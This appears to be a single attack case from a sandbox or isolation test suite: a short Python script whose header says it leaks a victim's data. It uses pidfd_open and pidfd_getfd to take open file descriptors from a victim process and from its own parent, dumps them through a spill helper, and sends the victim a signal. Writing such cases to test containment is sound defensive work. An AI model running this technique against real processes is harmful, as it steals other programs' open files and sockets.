# SPDX-License-Identifier: Apache-2.0
# attack: pidfd_open on another process, its descriptors taken, signals through it
# class: peek
# wins: leak victim
# needs: victim
# logged: pidfd_open
from kit import *

tried()
for pid in (F['vpid'], os.getppid()):
    p = sc('pidfd_open', pid, 0)
    if p >= 0:
        for n in [F['vfd']] + (list(range(3, 10)) if not NATIVE else []):
            fd = sc('pidfd_getfd', p, n, 0)
            if fd >= 0:
                spill(fd)
        if pid == F['vpid']:
            sc('pidfd_send_signal', p, 10, None, 0)
